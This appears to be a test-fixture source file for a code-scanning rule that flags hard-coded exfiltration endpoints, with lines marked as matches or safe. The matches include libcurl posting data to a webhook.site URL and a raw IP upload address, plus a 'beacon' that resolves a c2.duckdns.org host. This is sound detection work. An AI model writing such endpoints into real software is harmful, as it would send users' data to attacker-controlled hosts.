// Examples for MCP156: hard-coded endpoints that smell of exfiltration.
#include <arpa/inet.h>
#include <netdb.h>

#include "mcp_rule_examples.h"

void report(const char* data) {
  CURL* curl = curl_easy_init();
  // ruleid: MCP156
  curl_easy_setopt(curl, CURLOPT_URL, "https://webhook.site/3f9a1c2e-4b7d");
  // ruleid: MCP156
  curl_easy_setopt(curl, CURLOPT_URL, "http://45.13.227.81:8443/upload");
  curl_easy_setopt(curl, CURLOPT_POSTFIELDS, data);
  // ok: MCP156
  curl_easy_setopt(curl, CURLOPT_URL, "https://api.github.com/repos");
  // ok: MCP156
  curl_easy_setopt(curl, CURLOPT_URL, "http://127.0.0.1:8080/health");
}

void beacon() {
  const std::string host = "c2.duckdns.org";
  addrinfo* result = nullptr;
  // ruleid: MCP156
  getaddrinfo(host.c_str(), "443", nullptr, &result);
  // ok: MCP156
  getaddrinfo("api.weather.gov", "443", nullptr, &result);
}
